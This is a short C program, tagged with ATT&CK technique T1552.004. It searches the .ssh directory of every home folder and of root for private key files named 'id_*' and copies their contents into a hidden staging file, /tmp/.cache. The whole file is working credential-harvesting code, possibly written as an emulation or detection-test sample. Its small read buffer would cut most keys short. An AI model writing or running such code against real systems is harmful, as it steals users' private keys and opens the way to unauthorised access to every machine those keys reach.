/* T1552.004: looks for private keys in the .ssh of every home, and of root, and keeps them in one place.
 * aim: secrets */
#include "lib.h"

static int32_t kept, into;

static int32_t take_key(const char *folder, const char *name, void *with)
{
    char path[PATH_BYTES], text[256];
    (void)with;
    if (!begins(name, "id_") || !join(path, folder, name))
        return 0;
    int32_t size = read_file(path, text, sizeof text);
    if (size > 0 && write_all(into, text, (uint32_t)size))
        kept++;
    return 0;
}

static int32_t look_into(const char *folder, const char *name, void *with)
{
    char home[PATH_BYTES], keys[PATH_BYTES];
    (void)with;
    if (join(home, folder, name) && join(keys, home, ".ssh"))
        each_entry(keys, take_key, NULL);
    return 0;
}

int main(void)
{
    into = CALL(OPENAT, AT_FDCWD, "/tmp/.cache", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    each_entry("/home", look_into, NULL);
    look_into("", "root", NULL);
    print(kept ? "done\n" : "no\n");
    return !kept;
}
